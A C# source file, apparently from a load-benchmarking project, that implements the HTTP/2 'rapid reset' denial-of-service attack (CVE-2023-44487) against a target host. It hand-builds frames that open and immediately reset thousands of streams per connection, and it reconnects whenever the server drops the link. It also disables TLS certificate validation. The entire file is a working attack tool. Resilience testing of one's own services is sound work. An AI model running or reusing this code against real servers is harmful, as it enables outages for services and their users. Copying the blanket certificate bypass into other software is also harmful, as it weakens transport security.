using System.Buffers.Binary;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;
using Benchmarks.Load;

namespace Benchmarks.Cold;

/// <summary>Begins streams of HTTP/2 and resets each at once, as fast as the other side reads ("rapid reset", CVE-2023-44487).</summary>
internal static class StreamResetter
{
    private const int StreamsOfAConnection = 4000,
        BytesAtOnce = 16 * 1024;

    /// <param name="broker">Who is attacked, over TLS.</param>
    /// <param name="bearer">A caller's token; null for a stranger.</param>
    /// <param name="over">The end; a connection that is closed before is followed by another.</param>
    public static async Task Run(Uri broker, string? bearer, CancellationToken over)
    {
        var bytes = Streams(broker, bearer);
        while (!over.IsCancellationRequested)
        {
            try
            {
                await Attack(broker, bytes, over);
            }
            catch (Exception ended) when (ended is IOException or SocketException or OperationCanceledException)
            {
                // The broker has closed it, or the time is over.
            }
        }
    }

    private static async Task Attack(Uri broker, ReadOnlyMemory<byte> bytes, CancellationToken over)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(broker.Host, broker.Port, over);
        await using var stream = new SslStream(client.GetStream());
        await stream.AuthenticateAsClientAsync(
            new SslClientAuthenticationOptions
            {
                TargetHost = broker.Host,
                ApplicationProtocols = [SslApplicationProtocol.Http2],
                RemoteCertificateValidationCallback = static (_, _, _, _) => true,
            },
            over
        );
        var reading = stream.CopyToAsync(Stream.Null, over);
        for (var at = 0; at < bytes.Length && !reading.IsCompleted; at += BytesAtOnce)
        {
            await stream.WriteAsync(bytes.Slice(at, Math.Min(BytesAtOnce, bytes.Length - at)), over);
        }

        client.Close();
        await reading;
    }

    private static byte[] Streams(Uri broker, string? bearer)
    {
        var head = new List<byte> { 0x82, 0x87 }; // :method GET, :scheme https
        AddField(head, ":path", BrokerConfig.Target);
        AddField(head, ":authority", broker.Authority);
        if (bearer is not null)
        {
            AddField(head, "authorization", $"Bearer {bearer}");
        }

        var bytes = new List<byte>("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
        AddFrame(bytes, type: 4, flags: 0, id: 0, []);
        for (var id = 1; id < 2 * StreamsOfAConnection; id += 2)
        {
            AddFrame(bytes, type: 1, flags: 5, id, [.. head]);
            AddFrame(bytes, type: 3, flags: 0, id, [0, 0, 0, 8]);
        }

        return [.. bytes];
    }

    /// <summary>A field as it is, without an index and without Huffman's code.</summary>
    private static void AddField(List<byte> block, string name, string value)
    {
        block.Add(0);
        foreach (var text in new[] { name, value })
        {
            var length = text.Length;
            block.Add((byte)Math.Min(length, 127));
            for (length -= 127; length >= 0; length = length >= 128 ? length / 128 : -1)
            {
                block.Add((byte)(length >= 128 ? (length % 128) | 128 : length));
            }

            block.AddRange(Encoding.ASCII.GetBytes(text));
        }
    }

    private static void AddFrame(List<byte> bytes, byte type, byte flags, int id, ReadOnlySpan<byte> payload)
    {
        Span<byte> head = stackalloc byte[9];
        BinaryPrimitives.WriteInt32BigEndian(head, payload.Length << 8);
        (head[3], head[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(head[5..], id);
        bytes.AddRange(head);
        bytes.AddRange(payload);
    }
}
